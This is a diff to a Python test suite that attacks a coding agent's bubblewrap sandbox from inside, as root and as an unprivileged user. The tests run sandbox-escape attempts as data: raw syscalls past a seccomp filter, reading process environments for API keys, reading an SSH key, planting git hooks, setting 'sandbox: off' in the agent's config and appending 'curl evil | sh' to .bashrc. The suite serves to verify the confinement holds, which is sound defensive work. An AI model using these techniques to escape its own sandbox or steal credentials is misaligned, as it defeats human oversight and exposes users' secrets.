@@ -1,7 +1,8 @@
 """The sandbox's boundary, tried as an attacker would, from inside, as root and as an unprivileged user.
 
-Each test runs real commands in a real bubblewrap sandbox through ``tests/support/sandbox_probe.py``:
-as the test's own user, and again as ``nobody`` (``setpriv``) where the tests run as root — the case
+Each test runs real commands in a real bubblewrap sandbox through ``tests/support/sandbox_probe.py``,
+started both ways the agent starts one (its own spawn, an editor terminal's command line): as the
+test's own user, and again as ``nobody`` (``setpriv``) where the tests run as root — the case
 devcontainers, CI and root VMs are in, where bubblewrap used to keep every capability. Skipped with
 the reason where bubblewrap is missing or cannot create namespaces.
 """
@@ -56,6 +57,13 @@ def user(request: pytest.FixtureRequest) -> int | None:
     return NOBODY
 
 
+@pytest.fixture(params=["direct", "terminal"])
+def launch(request: pytest.FixtureRequest) -> str:
+    """How the sandbox is started: by the agent itself (bubblewrap first, the filter passed as a descriptor)
+    or as the one command line an editor's terminal runs (``env -i``, a shell that opens the filter)."""
+    return str(request.param)
+
+
 @pytest.fixture
 def places(user: int | None) -> Iterator[dict[str, Path]]:
     """A workspace, a home with a key and an agent home, in a folder the probe's user owns."""
@@ -76,9 +84,10 @@ def places(user: int | None) -> Iterator[dict[str, Path]]:
         shutil.rmtree(base, ignore_errors=True)
 
 
-def probe(user: int | None, places: dict[str, Path], commands: list[str], **extra: Any) -> list[dict[str, Any]]:
+def probe(user: int | None, launch: str, places: dict[str, Path], commands: list[str],
+          **extra: Any) -> list[dict[str, Any]]:
     spec = {"workspace": str(places["workspace"]), "home": str(places["home"]), "hermes": str(places["hermes"]),
-            "commands": commands, **extra}
+            "commands": commands, "launch": launch, **extra}
     done = subprocess.run([*_as(user), sys.executable, "-m", "tests.support.sandbox_probe", json.dumps(spec)],
                           cwd=ROOT, capture_output=True, text=True, timeout=120, check=False)
     assert done.returncode == 0, done.stderr
@@ -88,9 +97,10 @@ def probe(user: int | None, places: dict[str, Path], commands: list[str], **extr
     return results
 
 
-def test_no_capabilities_so_the_confinement_cannot_be_undone(user: int | None, places: dict[str, Path]) -> None:
+def test_no_capabilities_so_the_confinement_cannot_be_undone(user: int | None, places: dict[str, Path],
+                                                             launch: str) -> None:
     home = places["home"]
-    caps, remount, unhide, nested, key = probe(user, places, [
+    caps, remount, unhide, nested, key = probe(user, launch, places, [
         "grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status",
         "mount -o remount,rw / 2>&1; echo rc=$?",
         f"umount {home}/.ssh 2>&1; echo rc=$?",
@@ -118,11 +128,12 @@ def host_socket(places: dict[str, Path], user: int | None) -> Iterator[Path]:
 CONNECT = "import socket; s = socket.socket(socket.AF_UNIX); s.connect('{0}'); print(s.recv(20))"
 
 
-def test_host_unix_sockets_are_out_of_reach(user: int | None, places: dict[str, Path], host_socket: Path) -> None:
+def test_host_unix_sockets_are_out_of_reach(user: int | None, places: dict[str, Path], launch: str,
+                                            host_socket: Path) -> None:
     outside = subprocess.run(["python3", "-c", CONNECT.format(host_socket)], capture_output=True, text=True,
                              check=False)
     assert "SECRET-AGENT" in outside.stdout  # the socket works outside the sandbox
-    connect, pair, listed = probe(user, places, [
+    connect, pair, listed = probe(user, launch, places, [
         f'python3 -c "{CONNECT.format(host_socket)}"',
         "python3 -c \"import socket; a, b = socket.socketpair(); a.send(b'ok'); print(b.recv(2))\"",
         f"ls {host_socket}",
@@ -173,7 +184,7 @@ REACH = {
 
 
 @pytest.mark.parametrize("network", [False, True], ids=["no network", "network on"])
-def test_no_way_leads_to_a_unix_socket_outside(user: int | None, places: dict[str, Path],
+def test_no_way_leads_to_a_unix_socket_outside(user: int | None, places: dict[str, Path], launch: str,
                                               host_datagram_socket: tuple[Path, socket.socket], network: bool) -> None:
     path, server = host_datagram_socket
     abstract = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)  # the network on: the host's abstract names
@@ -181,7 +192,7 @@ def test_no_way_leads_to_a_unix_socket_outside(user: int | None, places: dict[st
     abstract.setblocking(False)
     try:
         commands = [f"python3 -c \"import socket; {code.format(path)}\"" for code in REACH.values()]
-        results = probe(user, places, commands, network=network)
+        results = probe(user, launch, places, commands, network=network)
         for name, result in zip(REACH, results, strict=True):
             if name == "seqpacket pair, sendmsg":  # the address is ignored: it goes to its own peer
                 assert "PEER b'SENT'" in result["out"], result
@@ -197,8 +208,9 @@ SYSCALL = "python3 -c \"import ctypes, os; n = ctypes.CDLL(None, use_errno=True)
 
 
 @pytest.mark.skipif(platform.machine() != "x86_64", reason="the system call numbers below are x86-64's")
-def test_the_ways_around_the_socket_rule_are_closed(user: int | None, places: dict[str, Path]) -> None:
-    io_uring, keyring, x32, getpid = probe(user, places, [
+def test_the_ways_around_the_socket_rule_are_closed(user: int | None, places: dict[str, Path],
+                                                    launch: str) -> None:
+    io_uring, keyring, x32, getpid = probe(user, launch, places, [
         SYSCALL.format("425, 8, 0"),  # io_uring_setup: io_uring can make sockets without socket()
         SYSCALL.format("250, 0, 0"),  # keyctl: a session keyring may hold secrets
         SYSCALL.format("0x40000000 | 39"),  # getpid through the x32 table the filter does not check
@@ -210,7 +222,7 @@ def test_the_ways_around_the_socket_rule_are_closed(user: int | None, places: di
     assert int(getpid["out"].split()[0]) > 0
 
 
-def test_the_environment_is_an_allowlist(user: int | None, places: dict[str, Path]) -> None:
+def test_the_environment_is_an_allowlist(user: int | None, places: dict[str, Path], launch: str) -> None:
     environ = {
         "PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(places["home"]), "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8",
         "TERM": "xterm", "SSH_AUTH_SOCK": "/run/user/1000/ssh-agent", "DBUS_SESSION_BUS_ADDRESS": "unix:path=/x",
@@ -218,8 +230,8 @@ def test_the_environment_is_an_allowlist(user: int | None, places: dict[str, Pat
         "GITHUB_TOKEN": "ghp_secret", "AWS_SECRET_ACCESS_KEY": "aws-secret", "ANTHROPIC_API_KEY": "sk-ant-secret",
         "https_proxy": "http://user:pass@proxy:3128", "NO_PROXY": "localhost",
     }
-    (offline,) = probe(user, places, ["env"], environ=environ)
-    (online,) = probe(user, places, ["env"], environ=environ, network=True)
+    (offline,) = probe(user, launch, places, ["env"], environ=environ)
+    (online,) = probe(user, launch, places, ["env"], environ=environ, network=True)
     seen = dict(line.split("=", 1) for line in offline["out"].splitlines() if "=" in line)
     assert {"PATH", "HOME", "LANG", "LC_ALL", "TERM", "NO_PROXY", "TMPDIR", "XDG_CACHE_HOME"} <= set(seen)
     for name in ("SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DISPLAY", "WAYLAND_DISPLAY", "XDG_RUNTIME_DIR",
@@ -229,10 +241,11 @@ def test_the_environment_is_an_allowlist(user: int | None, places: dict[str, Pat
     assert "https_proxy=http://user:pass@proxy:3128" in online["out"]  # the network is on: its proxy goes with it
 
 
-def test_nothing_of_the_agents_environment_is_readable_inside(user: int | None, places: dict[str, Path]) -> None:
+def test_nothing_of_the_agents_environment_is_readable_inside(user: int | None, places: dict[str, Path],
+                                                              launch: str) -> None:
     secrets = {"ANTHROPIC_API_KEY": "sk-ant-agent-secret", "GITHUB_TOKEN": "ghp_agentsecret",
                "AWS_SECRET_ACCESS_KEY": "aws-agent-secret"}
-    (looked, descriptors) = probe(user, places, [
+    (looked, descriptors) = probe(user, launch, places, [
         "for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do echo \"== $f\"; tr '\\0' '\\n' < $f; done",
         "ls /proc/self/fd",
     ], process_environ=secrets)
@@ -255,8 +268,9 @@ KNOBS = (
 )
 
 
-def test_the_hosts_kernel_settings_are_out_of_reach(user: int | None, places: dict[str, Path]) -> None:
-    uid, knobs = probe(user, places, ["id -u", KNOBS])
+def test_the_hosts_kernel_settings_are_out_of_reach(user: int | None, places: dict[str, Path],
+                                                    launch: str) -> None:
+    uid, knobs = probe(user, launch, places, ["id -u", KNOBS])
     assert uid["out"].strip() != "0"  # root outside is not root inside
     assert knobs["out"].startswith("OPENED 0 []"), knobs  # core_pattern among them: nothing was written
 
@@ -269,7 +283,7 @@ def listener() -> Iterator[int]:
         yield server.getsockname()[1]
 
 
-def test_no_network_by_any_means(user: int | None, places: dict[str, Path], listener: int) -> None:
+def test_no_network_by_any_means(user: int | None, places: dict[str, Path], launch: str, listener: int) -> None:
     url = f"http://127.0.0.1:{listener}/"
     attempts = {
         "python": f"python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {listener}), 3); "
@@ -281,15 +295,15 @@ def test_no_network_by_any_means(user: int | None, places: dict[str, Path], list
     }
     present = {name: command for name, command in attempts.items() if shutil.which(name.split()[0])}
     assert "python" in present and "bash /dev/tcp" in present
-    results = probe(user, places, list(present.values()))
+    results = probe(user, launch, places, list(present.values()))
     for name, result in zip(present, results, strict=True):
         assert "REACHED" not in result["out"], name
-    (allowed,) = probe(user, places, [present["python"]], network=True)
+    (allowed,) = probe(user, launch, places, [present["python"]], network=True)
     assert "REACHED" in allowed["out"]
 
 
 def test_what_runs_later_outside_is_read_only_and_what_is_planted_is_moved_out(
-    user: int | None, places: dict[str, Path]
+    user: int | None, places: dict[str, Path], launch: str
 ) -> None:
     workspace = places["workspace"]
     subprocess.run([*_as(user), "git", "init", "-q", str(workspace)], check=True)
@@ -300,7 +314,7 @@ def test_what_runs_later_outside_is_read_only_and_what_is_planted_is_moved_out(
     if user is not None:
         for path in [workspace, *workspace.rglob("*")]:
             os.chown(path, user, user)
-    results = probe(user, places, [
+    results = probe(user, launch, places, [
         "git config core.fsmonitor 'touch PWNED'",
         "echo 'touch PWNED' > .git/hooks/pre-commit",
         "python3 -c \"open('sub/.git/config', 'a').write('[core]\\n\\tfsmonitor = touch PWNED\\n')\"",
@@ -321,13 +335,14 @@ def test_what_runs_later_outside_is_read_only_and_what_is_planted_is_moved_out(
     assert not list(workspace.rglob("PWNED"))
 
 
-def test_a_workspace_that_holds_the_home_folder_does_not_unhide_it(user: int | None, places: dict[str, Path]) -> None:
+def test_a_workspace_that_holds_the_home_folder_does_not_unhide_it(user: int | None, places: dict[str, Path],
+                                                                   launch: str) -> None:
     home = places["home"]
     (home / ".bashrc").write_text("# mine\n")
     if user is not None:
         os.chown(home / ".bashrc", user, user)
     places = {**places, "workspace": home}
-    key, config, profile, authorized, note = probe(user, places, [
+    key, config, profile, authorized, note = probe(user, launch, places, [
         "cat .ssh/id_ed25519",
         "echo 'sandbox: off' >> .hermes/config.yaml; cat .hermes/config.yaml",
         "echo 'curl evil | sh' >> .bashrc",
